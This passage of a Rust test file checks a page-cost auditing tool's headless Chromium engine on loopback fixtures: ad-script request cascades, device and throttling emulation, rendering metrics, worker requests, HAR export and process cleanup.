//! The browser engine end to end, on loopback: headless Chromium (Debian's `chromium`,
//! installed by .ci/run; without it these tests fail under CI and skip elsewhere) loads the
//! ad cascade fixture, whose requests after the first tag are all made by scripts.

#![cfg(feature = "browser")]

use crate::support;

use serde_json::Value;
use support::{audit_json, entries, pagecost, Route, TestServer};

const CASCADE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/cascade/");

fn by_path<'a>(load: &'a Value, path: &str) -> &'a Value {
    entries(load)
        .iter()
        .find(|e| e["url"].as_str().unwrap().ends_with(path))
        .unwrap_or_else(|| panic!("no {path} in {:#?}", entries(load)))
}

/// The static engine sees what the HTML references (the page, its stylesheet, a photo and the
/// ad tag); Chromium also sees the cascade the tag starts: the library it loads, the bid it
/// fetches, the sync pixel, the creative's iframe with its banner and impression pixel, and
/// a viewability beacon sent after the load event; each with the initiator a browser names.
#[test]
fn the_browser_engine_sees_what_scripts_request() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let static_load = audit_json(&[CASCADE]);
    assert_eq!(entries(&static_load).len(), 4, "document, css, photo, tag");
    // stdout carries the report and nothing of the browser's own output; stderr no browser log.
    let (code, out, err) =
        pagecost(&["audit", CASCADE, "--engine", "chromium", "--format", "json"]);
    assert_eq!(code, 0, "{err}");
    let load: Value = serde_json::from_str(&out).expect("stdout is one JSON document");
    assert!(out.starts_with('{') && out.ends_with("}\n"));
    assert!(
        !err.contains("DevTools") && !err.contains("ERROR:"),
        "{err}"
    );
    assert_eq!(load["settings"]["browser"], "chromium");
    let lib = by_path(&load, "/ads/lib.js");
    assert_eq!(lib["initiator"]["kind"], "script");
    assert!(lib["initiator"]["url"]
        .as_str()
        .unwrap()
        .ends_with("/ads/tag.js"));
    assert_eq!(
        lib["initiator"]["line"], 4,
        "the line of tag.js that appends it"
    );
    let bid = by_path(&load, "/ads/bid.json");
    assert!(bid["initiator"]["url"]
        .as_str()
        .unwrap()
        .ends_with("/ads/lib.js"));
    assert_eq!(
        by_path(&load, "/ads/creative.html")["resource_type"],
        "iframe"
    );
    let banner = by_path(&load, "/ads/banner.png");
    assert_eq!(banner["status"], 200);
    assert_eq!(banner["decoded_bytes"], 8008);
    assert!(banner["initiator"]["url"]
        .as_str()
        .unwrap()
        .ends_with("/ads/creative.html"));
    // Fired from a fetch's callback, Chromium gives the pixel no stack at all: its initiator
    // stays what the browser says, not a guess.
    by_path(&load, "/ads/sync.gif?bidder=exampleads");
    // `new Image().src = ...` loads in a task of its own: its caller is found in the
    // request's asynchronous stack (without it Chromium names the document's parser).
    let impression = by_path(&load, "/ads/impression.gif?slot=top");
    assert_eq!(impression["initiator"]["kind"], "script", "{impression}");
    assert!(impression["initiator"]["url"]
        .as_str()
        .unwrap()
        .ends_with("/ads/creative.html"));
    let beacon = by_path(&load, "/ads/viewable?slot=top");
    assert_eq!(
        beacon["after_load"], true,
        "sent 200 ms after the load event"
    );
    assert_eq!(beacon["method"], "POST");
    let doc = &entries(&load)[0];
    assert_eq!(doc["resource_type"], "document");
    assert!(doc["timings_ms"]["wait_ms"].as_f64().is_some());
    assert!(load["document_ttfb_ms"].as_f64().unwrap() > 0.0);
    assert!(load["totals"]["transfer_bytes"].as_u64().unwrap() > 11_000);
}

/// Each of the static engine's settings the browser cannot apply is refused once, before
/// any page or browser: one line naming the setting and why, exit 2 (no browser needed to say so).
#[test]
fn settings_the_browser_cannot_apply_are_refused_before_any_page() {
    for (args, said) in [
        (&["--timeout", "5s"][..], "--timeout 5s: "),
        (&["--max-redirects", "3"], "--max-redirects 3: "),
        (&["--max-frame-depth", "1"], "--max-frame-depth 1: "),
        (&["--per-origin", "2"], "--per-origin 2: "),
        (&["--concurrency", "8"], "--concurrency 8: "),
        (&["--connect-timeout", "3s"], "--connect-timeout 3s: "),
        (&["--max-refs", "10"], "--max-refs 10: "),
    ] {
        let mut all = vec!["audit", CASCADE, CASCADE, "--engine", "chromium"];
        all.extend_from_slice(args);
        all.extend_from_slice(&["--browser", "/no/such/chromium"]);
        let (code, out, err) = pagecost(&all);
        assert_eq!(code, 2, "{args:?}: {out}");
        assert!(out.is_empty(), "no page was tried: {out}");
        assert_eq!(err.trim_end().lines().count(), 1, "{err}");
        assert!(err.starts_with(&format!("pagecost: {said}")), "{err}");
    }
}

/// Each of the browser engine's own flags is refused with the static engine, not ignored:
/// one line, exit 2, before any page.
#[test]
fn the_browser_engines_flags_are_refused_with_the_static_engine() {
    for args in [
        &["--browser", "/usr/bin/chromium"][..],
        &["--browser-flag=--mute-audio"],
        &["--quiet-period", "2s"],
        &["--after-load", "2s"],
        &["--no-trace"],
    ] {
        let mut all = vec!["audit", CASCADE];
        all.extend_from_slice(args);
        let (code, out, err) = pagecost(&all);
        assert_eq!(code, 2, "{args:?}: {out}");
        assert!(out.is_empty(), "no page was tried: {out}");
        assert_eq!(err.trim_end().lines().count(), 1, "{err}");
        assert!(
            err.contains("apply to the browser engine only")
                && err.contains(args[0].split('=').next().unwrap()),
            "{args:?}: {err}"
        );
    }
}

/// No browser: one line naming what was searched and how to install one, exit 2.
#[test]
fn no_browser_is_a_clear_usage_error() {
    let (code, _, err) = pagecost(&[
        "audit",
        CASCADE,
        "--engine",
        "chromium",
        "--browser",
        "/no/such/chromium",
    ]);
    assert_eq!(code, 2, "{err}");
    assert_eq!(err.trim_end().lines().count(), 1, "{err}");
    assert!(err.contains("/no/such/chromium is not a file"), "{err}");
    let bin = assert_cmd::cargo::cargo_bin("pagecost");
    let out = assert_cmd::Command::new(bin)
        .env_clear()
        .env("PATH", "/nonexistent")
        .args(["audit", CASCADE, "--engine", "chromium"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("none of chromium, chromium-browser, google-chrome on PATH")
            && err.contains("apt-get install chromium"),
        "{err}"
    );
}

/// The device, user agent and headers an audit asks for are what the page sees: a 2x
/// screen picks the 2x image, a mobile 400 px viewport is 400 px wide with touch, and every
/// request carries the user agent and the extra header.
#[test]
fn the_browser_applies_device_user_agent_and_headers() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let page = r#"<!doctype html><meta name="viewport" content="width=device-width">
<img srcset="/one.png 1x, /two.png 2x">
<script>fetch('/probe?w=' + innerWidth + '&dpr=' + devicePixelRatio
  + '&touch=' + (navigator.maxTouchPoints > 0));</script>"#;
    let server = TestServer::start(vec![
        ("/", Route::html(page)),
        ("/one.png", Route::ok("image/png", vec![0u8; 10])),
        ("/two.png", Route::ok("image/png", vec![0u8; 20])),
    ]);
    let load = audit_json(&[
        &server.url("/"),
        "--engine",
        "chromium",
        "--viewport",
        "400x700",
        "--dpr",
        "2",
        "--mobile",
        "--user-agent",
        "pagecost-test/1",
        "--header",
        "X-Test: yes",
    ]);
    let paths = server.paths();
    assert!(paths.iter().any(|p| p == "/two.png"), "{paths:?}");
    assert!(!paths.iter().any(|p| p == "/one.png"), "{paths:?}");
    assert!(
        paths.iter().any(|p| p == "/probe?w=400&dpr=2&touch=true"),
        "{paths:?}"
    );
    for r in server.requests() {
        let header = |n: &str| {
            r.headers
                .iter()
                .find(|(k, _)| k.eq_ignore_ascii_case(n))
                .map(|(_, v)| v.clone())
        };
        assert_eq!(
            header("user-agent").as_deref(),
            Some("pagecost-test/1"),
            "{}",
            r.path
        );
        assert_eq!(header("x-test").as_deref(), Some("yes"), "{}", r.path);
    }
    assert_eq!(load["settings"]["user_agent"], "pagecost-test/1");
    assert_eq!(load["settings"]["dpr"], 2.0);
    // What the browser says of each request is kept: the headers it sent and received,
    // and the priority it gave the request.
    let doc = by_path(&load, "/");
    let header = |list: &Value, n: &str| {
        list.as_array()
            .unwrap()
            .iter()
            .find(|h| h["name"] == n)
            .map(|h| h["value"].clone())
    };
    // The header the user added is recorded, its value redacted as every -H header's is
    // (one policy for every output: the server saw "yes", above).
    assert_eq!(
        header(&doc["request_headers"], "x-test"),
        Some("[redacted]".into()),
        "{doc}"
    );
    assert_eq!(
        header(&doc["response_headers"], "content-type"),
        Some("text/html; charset=utf-8".into()),
        "{doc}"
    );
    assert_eq!(doc["priority"], "very_high");
    assert!(by_path(&load, "/two.png")["priority"].is_string());
}

/// Both engines answer media queries for the same device: a desktop with a mouse (headless
/// Chromium alone would have no pointer at all) and, with `--mobile`, a touch screen. Each
/// device's background image is the only one either engine requests.
#[test]
fn both_engines_answer_media_queries_for_a_mouse_or_a_touch_screen() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let page = r#"<!doctype html><style>
@media (hover: hover) and (pointer: fine) { body { background: url(/mouse.png) } }
@media (hover: none) and (pointer: coarse) { p { background: url(/touch.png) } }
@media (hover: none) and (pointer: none) { div { background: url(/nothing.png) } }
</style><p>text</p><div>more</div>"#;
    for (device, wanted) in [("desktop", "/mouse.png"), ("mobile", "/touch.png")] {
        for engine in ["static", "chromium"] {
            let server = TestServer::start(vec![
                ("/", Route::html(page)),
                ("/mouse.png", Route::ok("image/png", vec![0u8; 10])),
                ("/touch.png", Route::ok("image/png", vec![0u8; 10])),
                ("/nothing.png", Route::ok("image/png", vec![0u8; 10])),
            ]);
            let mut args = vec![server.url("/"), "--engine".into(), engine.into()];
            if device == "mobile" {
                args.push("--mobile".into());
            }
            audit_json(&args.iter().map(String::as_str).collect::<Vec<_>>());
            let images: Vec<String> = server
                .paths()
                .into_iter()
                .filter(|p| p.ends_with(".png"))
                .collect();
            assert_eq!(images, [wanted], "{engine} engine, {device}");
        }
    }
}

/// How long a page's fixed busy loop takes at best of three once compiled, as the page
/// measured it (reported in a request).
const BUSY: &str = r#"<!doctype html><p>text</p><script>
function busy() {
  const t = performance.now(); let x = 0;
  for (let i = 0; i < 3e7; i++) { x += i % 7; }
  return x > 0 ? performance.now() - t : 0;
}
busy();
setTimeout(() => {
  fetch('/took?ms=' + Math.round(Math.min(busy(), busy(), busy())));
}, 300);
</script>"#;

fn busy_ms(server: &TestServer) -> f64 {
    let took = server
        .paths()
        .into_iter()
        .rev()
        .find(|p| p.starts_with("/took?ms="))
        .expect("the page reported its loop");
    took["/took?ms=".len()..]
        .split('&')
        .next()
        .unwrap()
        .parse()
        .unwrap()
}

/// A network profile is applied by the browser: its latency delays every response head (and
/// is recorded in the settings), and a mobile profile slows the CPU 4x as Lighthouse does.
#[test]
fn the_browser_applies_network_and_cpu_throttling() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let server = TestServer::start(vec![("/", Route::html(BUSY))]);
    let url = server.url("/");
    let fast = audit_json(&[&url, "--engine", "chromium"]);
    let mut fast_cpu = busy_ms(&server);
    let slow = audit_json(&[&url, "--engine", "chromium", "--throttle", "custom:400,0,0"]);
    assert_eq!(slow["settings"]["throttle"]["rtt_ms"], 400.0);
    let ttfb = |l: &Value| l["document_ttfb_ms"].as_f64().unwrap();
    assert!(ttfb(&fast) < 400.0, "{}", ttfb(&fast));
    assert!(ttfb(&slow) >= 400.0, "{}", ttfb(&slow));
    // A busy machine compresses the ratio (the throttler slices wall time the machine
    // already shares out): the best of two interleaved runs a side is compared.
    let mut slow_cpu = f64::INFINITY;
    for round in 0..2 {
        if round > 0 {
            audit_json(&[&url, "--engine", "chromium"]);
            fast_cpu = fast_cpu.min(busy_ms(&server));
        }
        let mobile = ["--throttle", "lighthouse-mobile"];
        audit_json(&[&url, "--engine", "chromium", mobile[0], mobile[1]]);
        slow_cpu = slow_cpu.min(busy_ms(&server));
    }
    // 4x nominally (4.3x measured on an idle machine); 1.5x leaves room for a busy one
    // without letting no slowdown pass.
    assert!(
        slow_cpu >= 1.5 * fast_cpu,
        "the loop took {fast_cpu} ms at best, then {slow_cpu} ms at best at 4x slowdown"
    );
}

/// The rendering metrics come from the page: a paint, a 300 ms task after it (blocking time
/// 250 ms), and content pushed down by an inserted block (a layout shift); the static engine
/// reports none of them, and budgets judge them under Lighthouse's names.
#[test]
fn rendering_metrics_are_measured_and_budgeted() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let page = r#"<!doctype html><p id=t>Some text that paints first.</p><script>
// Late enough to come after the first paint.
setTimeout(() => {
  const d = document.createElement('div'); d.style.height = '300px';
  document.body.prepend(d);
  const t = performance.now(); while (performance.now() - t < 300) {}
}, 600);
</script>"#;
    let server = TestServer::start(vec![("/", Route::html(page))]);
    let url = server.url("/");
    let load = audit_json(&[&url, "--engine", "chromium"]);
    let m = &load["page_metrics"];
    let get = |k: &str| m[k].as_f64().unwrap_or_else(|| panic!("{k} in {m}"));
    assert!(get("dom_content_loaded_ms") <= get("load_event_ms"));
    assert!(get("first_contentful_paint_ms") > 0.0);
    assert!(get("largest_contentful_paint_ms") >= get("first_contentful_paint_ms"));
    let tbt = get("total_blocking_time_ms");
    assert!((240.0..2000.0).contains(&tbt), "TBT {tbt}");
    assert!(get("cumulative_layout_shift") > 0.05, "{m}");
    assert!(audit_json(&[&url]).get("page_metrics").is_none());
    let dir = tempfile::tempdir().unwrap();
    let budget = dir.path().join("budget.json");
    std::fs::write(
        &budget,
        r#"[{"timings":[{"metric":"total-blocking-time","budget":100},
            {"metric":"first-contentful-paint","budget":60000}]}]"#,
    )
    .unwrap();
    let b = budget.to_str().unwrap();
    let (code, out, err) = pagecost(&["audit", &url, "--engine", "chromium", "--budget", b]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.contains("timings.total-blocking-time"), "{out}");
    let (code, out, _) = pagecost(&["audit", &url, "--budget", b]);
    assert_eq!(code, 0, "unsupported is not a failure: {out}");
    assert!(out.contains("unsupported"), "{out}");
}

/// The third-party cascade: the tag on the ad network's host, the creative in a cross-site
/// iframe (its own renderer process unless site isolation is off for the page's session).
fn cascade_3p(extra: &[&str]) -> Vec<String> {
    let adnet = concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/cascade-3p/adnet");
    let mut args: Vec<String> = vec![
        concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/cascade-3p/").into(),
        "--engine".into(),
        "chromium".into(),
    ];
    for host in [
        "securepubads.g.doubleclick.net",
        "tpc.googlesyndication.com",
    ] {
        args.extend(["--serve-also".into(), format!("{host}={adnet}")]);
    }
    args.extend(extra.iter().map(|s| s.to_string()));
    args
}

/// Every request of the cascade, the cross-site iframe's included: blocked by category, the
/// tag never leaves the browser (listed as blocked, by what), and compare lists each cascade
/// request as only in A, with its entity, in every run.
#[test]
fn compare_blocks_the_ad_cascade_by_category_in_the_browser() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let cascade = [
        "/tag.js",
        "/lib.js",
        "/bid.js",
        "/sync.gif?bidder=exampleads",
        "/creative.html",
        "/banner.png",
        "/impression.gif?slot=top",
        "/viewable?slot=top",
    ];
    let mut args = vec!["compare".to_string()];
    args.extend(cascade_3p(&[
        "--block",
        "category:ad",
        "--runs",
        "5",
        "--format",
        "json",
    ]));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let (code, out, err) = pagecost(&args);
    assert_eq!(code, 0, "{err}");
    let v: Value = serde_json::from_str(&out).unwrap();
    let only_a = v["comparison"]["only_in_a"].as_array().unwrap();
    for path in cascade {
        let e = only_a
            .iter()
            .find(|e| e["key"].as_str().unwrap().ends_with(path))
            .unwrap_or_else(|| panic!("{path} not only in A: {only_a:#?}"));
        assert_eq!(e["entity"], "Google/Doubleclick Ads", "{e}");
        assert!(!e["initiator"].as_str().unwrap().is_empty(), "{e}");
    }
    for run in v["a"]["runs"].as_array().unwrap() {
        for path in cascade {
            let e = by_path(run, path);
            assert_eq!(e["status"].as_u64().map(|s| s / 100), Some(2), "{e}");
        }
        assert_eq!(by_path(run, "/banner.png")["frame_depth"], 1);
        // The sync pixel, fired from the bid's callback, is the library's (line 8), found in
        // its asynchronous stack; so the tag's cost is the whole cascade.
        let sync = by_path(run, "/sync.gif?bidder=exampleads");
        assert!(sync["initiator"]["url"]
            .as_str()
            .unwrap()
            .ends_with("/lib.js"));
        assert_eq!(sync["initiator"]["line"], 8, "{sync}");
        let tags = run["third_party_tags"].as_array().unwrap();
        assert_eq!(tags.len(), 1, "{tags:#?}");
        assert!(tags[0]["url"].as_str().unwrap().ends_with("/tag.js"));
        assert_eq!(tags[0]["requests"], cascade.len(), "{tags:#?}");
    }
    ad_network_cpu_is_named_with_significance(&v["comparison"]);
    for run in v["b"]["runs"].as_array().unwrap() {
        let tag = by_path(run, "/tag.js");
        assert_eq!(tag["error"]["kind"], "blocked", "{tag}");
        assert_eq!(
            tag["error"]["message"],
            "blocked by block pattern category:ad"
        );
        for path in &cascade[1..] {
            assert!(!entries(run)
                .iter()
                .any(|e| e["url"].as_str().unwrap().ends_with(path)));
        }
    }
}

/// The cascade's library burns 70 ms of main thread on load (a task blocking for 20 ms) and
/// its creative 60 ms in its cross-site frame: the ad network's entity and tag cost A at least
/// 130 ms and B nothing, significantly over five runs each, blocking time too; "only in A"
/// gives the library's own time and the tag's whole.
fn ad_network_cpu_is_named_with_significance(c: &Value) {
    let rows = c["main_thread"].as_array().expect("main-thread rows");
    for (scope, name) in [("entity", "Google/Doubleclick Ads"), ("tag", "/tag.js")] {
        let d = (rows.iter())
            .find(|d| d["scope"] == scope && d["name"].as_str().unwrap().ends_with(name))
            .unwrap_or_else(|| panic!("no {scope} {name}: {rows:#?}"));
        let (m, b) = (&d["main_thread"], &d["blocking"]);
        assert!(m["a"]["median"].as_f64().unwrap() >= 130.0, "{d:#}");
        assert_eq!(m["b"]["median"], 0.0, "{d:#}");
        assert_eq!(m["significant"], true, "{d:#}");
        assert!(m["p"].as_f64().unwrap() < 0.05, "{d:#}");
        assert!(b["a"]["median"].as_f64().unwrap() >= 20.0, "{d:#}");
        assert_eq!(b["significant"], true, "{d:#}");
    }
    let only_a = c["only_in_a"].as_array().unwrap();
    let of = |path: &str| {
        only_a
            .iter()
            .find(|e| e["key"].as_str().unwrap().ends_with(path))
            .unwrap()
    };
    assert!(of("/lib.js")["main_thread_ms"].as_f64().unwrap() >= 70.0);
    assert!(of("/tag.js")["tag_main_thread_ms"].as_f64().unwrap() >= 130.0);
}

const WORKERS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/workers/");

/// The workers fixture served by a test server (which sees each request's headers).
fn workers_server() -> TestServer {
    let routes = [
        ("/", "text/html", "index.html"),
        ("/worker.js", "text/javascript", "worker.js"),
        ("/lib.js", "text/javascript", "lib.js"),
        ("/data.json", "application/json", "data.json"),
        ("/track/pixel.gif", "image/gif", "track/pixel.gif"),
        ("/nested.js", "text/javascript", "nested.js"),
        ("/nested.json", "application/json", "nested.json"),
    ];
    let file = |name: &str| std::fs::read(format!("{WORKERS}{name}")).unwrap();
    TestServer::start(
        routes
            .iter()
            .map(|(path, mime, name)| (*path, Route::ok(mime, file(name))))
            .collect(),
    )
}

/// What a dedicated worker requests, and what a worker's own worker requests, is the page's:
/// each request answered, with its bytes and the script that made it, under the page's
/// headers and throttling (each worker is a DevTools session of its own); and `--block`
/// stops a worker's request inside the browser.
#[test]
fn workers_requests_are_recorded_with_the_pages_settings() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let server = workers_server();
    let load = audit_json(&[
        &server.url("/"),
        "--engine",
        "chromium",
        "--header",
        "X-Test: yes",
        "--throttle",
        "custom:300,100000,100000",
    ]);
    let size = |path: &str| std::fs::metadata(format!("{WORKERS}{path}")).unwrap().len();
    let made_by = [
        ("lib.js", "/worker.js"),
        ("data.json", "/worker.js"),
        ("track/pixel.gif", "/worker.js"),
        ("nested.json", "/nested.js"),
    ];
    for (path, by) in made_by {
        let e = by_path(&load, &format!("/{path}"));
        assert_eq!(
            (e["status"].as_u64(), e["decoded_bytes"].as_u64()),
            (Some(200), Some(size(path))),
            "{e}"
        );
        assert!(e["initiator"]["url"].as_str().unwrap().ends_with(by), "{e}");
        // DevTools adds the latency once per request, in the worker's session too.
        assert!(
            e["duration_ms"].as_f64().unwrap() >= 300.0,
            "throttled: {e}"
        );
    }
    // The workers' own scripts are answered in their sessions: status and size known.
    for path in ["worker.js", "nested.js"] {
        let e = by_path(&load, &format!("/{path}"));
        assert_eq!(
            (e["status"].as_u64(), e["decoded_bytes"].as_u64()),
            (Some(200), Some(size(path))),
            "{e}"
        );
    }
    assert!(!notes(&load).contains("worker"), "{}", notes(&load));
    for r in server.requests() {
        let test = r
            .headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case("x-test"));
        assert_eq!(test.map(|(_, v)| v.as_str()), Some("yes"), "{}", r.path);
    }
    let server = workers_server();
    let (code, out, err) = pagecost(&[
        "compare",
        &server.url("/"),
        "--engine",
        "chromium",
        "--block",
        "*://*/track/*",
        "--runs",
        "1",
        "--no-warmup",
        "--format",
        "json",
    ]);
    assert_eq!(code, 0, "{err}");
    let v: Value = serde_json::from_str(&out).unwrap();
    let b = &v["b"]["runs"][0];
    let pixel = by_path(b, "/track/pixel.gif");
    assert_eq!(pixel["error"]["kind"], "blocked", "{pixel}");
    assert_eq!(
        by_path(&v["a"]["runs"][0], "/track/pixel.gif")["status"],
        200
    );
    assert_eq!(
        server
            .paths()
            .iter()
            .filter(|p| *p == "/track/pixel.gif")
            .count(),
        1,
        "A's only"
    );
}

/// A browser load exports as a HAR with its page timings, and the HAR validates.
#[test]
fn browser_hars_carry_page_timings_and_validate() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let har = dir.path().join("cascade.har");
    let mut args = vec!["audit".to_string()];
    args.extend(cascade_3p(&[
        "--format",
        "har",
        "-o",
        har.to_str().unwrap(),
    ]));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let (code, _, err) = pagecost(&args);
    assert_eq!(code, 0, "{err}");
    let v: Value = serde_json::from_str(&std::fs::read_to_string(&har).unwrap()).unwrap();
    let timings = &v["log"]["pages"][0]["pageTimings"];
    assert!(timings["onLoad"].as_f64().unwrap() > 0.0, "{timings}");
    assert!(
        timings["onContentLoad"].as_f64().unwrap() > 0.0,
        "{timings}"
    );
    support::validate_har(&[har.to_str().unwrap().to_string()]);
    // Read back, the load keeps its rendering metrics.
    let back = audit_json(&[har.to_str().unwrap()]);
    assert!(back["page_metrics"]["first_contentful_paint_ms"]
        .as_f64()
        .is_some());
}

/// A page whose one image never comes: its load is under way until stopped.
fn hanging_page() -> TestServer {
    TestServer::start(vec![
        ("/", Route::html("<p>slow</p><img src=/hang.png>")),
        (
            "/hang.png",
            Route::ok("image/png", "").action(support::Action::Hang),
        ),
    ])
}

/// Sends a signal (`-INT`, `-TERM`) to a child process, as `kill` does.
fn signal(child: &std::process::Child, signal: &str) {
    let sent = std::process::Command::new("kill")
        .args([signal, &child.id().to_string()])
        .status()
        .unwrap();
    assert!(sent.success(), "kill {signal}");
}

/// `--browser-flag` switches reach the browser: a host-resolver rule of the user's own sends
/// made-up hosts, the page's and its cross-site iframe's, to the test server. Chromium reads
/// only the last `--disable-features` given, so feature lists are merged (pagecost's own and
/// each of the user's): two lists of the user's both apply, seen from the page (a feature
/// that gates a JavaScript property). A switch pagecost sets itself is refused.
#[test]
fn browser_flags_reach_the_browser_and_their_feature_lists_merge() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let server = TestServer::start(vec![
        (
            "/",
            Route::html(
                "<p>top</p><script>const f = document.createElement('iframe');\
                 f.src = 'http://ads.flag.test:' + location.port + '/ad';\
                 document.body.append(f)</script>",
            ),
        ),
        ("/ad", Route::html("<img src=/pixel.png>")),
        ("/pixel.png", Route::ok("image/png", vec![0u8; 10])),
        (
            "/pip",
            Route::html(
                "<script>fetch('/probe?pip=' + ('documentPictureInPicture' in window))</script>",
            ),
        ),
        ("/probe", Route::ok("text/plain", "")),
    ]);
    let port = server
        .url("/")
        .rsplit(':')
        .next()
        .unwrap()
        .trim_end_matches('/')
        .to_string();
    let page = format!("http://www.flag.test:{port}/");
    let rules = "--browser-flag=--host-resolver-rules=MAP *.flag.test 127.0.0.1";
    let pip = "--browser-flag=--disable-features=DocumentPictureInPictureAPI";
    let load = audit_json(&[&page, "--engine", "chromium", rules]);
    let urls: Vec<&str> = entries(&load)
        .iter()
        .map(|e| e["url"].as_str().unwrap())
        .collect();
    assert!(
        urls.contains(&format!("http://ads.flag.test:{port}/pixel.png").as_str()),
        "{urls:?}"
    );
    // (The API needs a secure context: the page is on 127.0.0.1.)
    let dns = "--browser-flag=--disable-features=AsyncDns";
    audit_json(&[&server.url("/pip"), "--engine", "chromium"]);
    audit_json(&[&server.url("/pip"), "--engine", "chromium", pip, dns]);
    let probes: Vec<String> = (server.paths().into_iter())
        .filter(|p| p.starts_with("/probe"))
        .collect();
    assert_eq!(probes, ["/probe?pip=true", "/probe?pip=false"]);
    let own = "--browser-flag=--remote-debugging-port=9222";
    let (code, _, err) = pagecost(&["audit", CASCADE, "--engine", "chromium", own]);
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("--browser-flag --remote-debugging-port=9222: pagecost sets"),
        "{err}"
    );
}

/// Starts pagecost with `args` and the browser engine, its profiles under `tmp`, and waits
/// until its browser runs and has requested the [`hanging_page`]'s image once more.
fn loading(server: &TestServer, tmp: &std::path::Path, args: &[&str]) -> std::process::Child {
    let hangs = || server.paths().iter().filter(|p| *p == "/hang.png").count();
    let before = hangs();
    let child = std::process::Command::new(assert_cmd::cargo::cargo_bin("pagecost"))
        .env("TMPDIR", tmp)
        .args(args)
        .args(["--engine", "chromium", "--format", "json", "-q"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let t = std::time::Instant::now();
    while support::processes_under(tmp) == 0 || hangs() == before {
        assert!(
            t.elapsed().as_secs() < 30,
            "{args:?}: the browser never loaded"
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    child
}

/// The browser and all its child processes end with each load: none is left after five.
#[cfg(target_os = "linux")]
#[test]
fn no_browser_process_outlives_its_load() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    // The profiles are made under a folder of this test's own, so only its browsers count.
    let tmp = tempfile::tempdir().unwrap();
    let out = assert_cmd::Command::new(assert_cmd::cargo::cargo_bin("pagecost"))
        .env("TMPDIR", tmp.path())
        .args(["audit", CASCADE, "--engine", "chromium", "--runs", "4"])
        .args(["--format", "json", "-q"])
        .timeout(std::time::Duration::from_secs(120))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["runs"]["runs"].as_array().unwrap().len(), 4);
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert_eq!(
        support::processes_under(tmp.path()),
        0,
        "every browser ended with its load, its crash handlers too"
    );
    assert_eq!(
        (profiles_in(tmp.path()), chromium_folders_in(tmp.path())),
        (0, 0),
        "no profile or socket folder is left"
    );
}

/// Runs an audit of `url` with the browser, its profiles under `tmp`; the load's JSON and
/// how long the audit took.
fn timed_audit(url: &str, tmp: &std::path::Path, extra: &[&str]) -> (Value, std::time::Duration) {
    let t0 = std::time::Instant::now();
    let out = assert_cmd::Command::new(assert_cmd::cargo::cargo_bin("pagecost"))
        .env("TMPDIR", tmp)
        .args([
            "audit", url, "--engine", "chromium", "--format", "json", "-q",
        ])
        .args(extra)
        .timeout(std::time::Duration::from_secs(120))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {err}"));
    (v, t0.elapsed())
}

fn notes(load: &Value) -> String {
    load["notes"].to_string()
}

/// Pages that never go quiet end within their limits with what they loaded: an event
/// stream does not hold the page open (it is not counted in flight), nor a hanging websocket
/// or a service worker's registration; polling is cut at the watch after load, a load event
/// that never comes at the time limit; each marked partial or not as it should be, and no
/// browser process is left.
#[cfg(target_os = "linux")]
#[test]
fn pages_that_never_go_quiet_end_within_their_limits() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let ms = std::time::Duration::from_millis;
    let server = TestServer::start(vec![
        (
            "/sse",
            Route::html("<p>live</p><script>new EventSource('/events')</script>"),
        ),
        (
            "/events",
            Route::ok("text/event-stream", "").action(support::Action::EventStream(ms(100))),
        ),
        (
            "/poll",
            Route::html("<p>poll</p><script>setInterval(() => fetch('/tick'), 300)</script>"),
        ),
        ("/tick", Route::ok("text/plain", "0")),
        ("/never", Route::html("<p>never</p><img src=/hang>")),
        (
            "/again",
            Route::html("<script>location.href = '/again2'</script>"),
        ),
        (
            "/again2",
            Route::html("<script>location.href = '/again'</script>"),
        ),
        (
            "/hang",
            Route::ok("image/png", "").action(support::Action::Hang),
        ),
        (
            "/sw",
            Route::html(
                "<p>sw</p><script>navigator.serviceWorker.register('/sw.js')\
                 .then(() => fetch('/registered'), () => fetch('/refused'))</script>",
            ),
        ),
        (
            "/sw.js",
            Route::ok("text/javascript", "onfetch = () => {};"),
        ),
        (
            "/ws",
            Route::html(
                "<p>ws</p><script>new WebSocket('ws://' + location.host + '/socket');\
                 fetch('/after-ws')</script>",
            ),
        ),
        (
            "/socket",
            Route::ok("text/plain", "").action(support::Action::Hang),
        ),
        (
            "/dialogs",
            Route::html(
                "<script>alert('hi'); confirm('sure?'); prompt('name?');\
                 onbeforeunload = e => { e.preventDefault(); };\
                 fetch('/after-dialogs')</script>",
            ),
        ),
    ]);
    let tmp = tempfile::tempdir().unwrap();
    let (sse, took) = timed_audit(&server.url("/sse"), tmp.path(), &[]);
    assert_eq!(sse["partial"], false, "{}", notes(&sse));
    assert!(took < std::time::Duration::from_secs(15), "{took:?}");
    by_path(&sse, "/events");
    let (poll, took) = timed_audit(&server.url("/poll"), tmp.path(), &["--after-load", "2s"]);
    assert_eq!(poll["partial"], true);
    assert!(
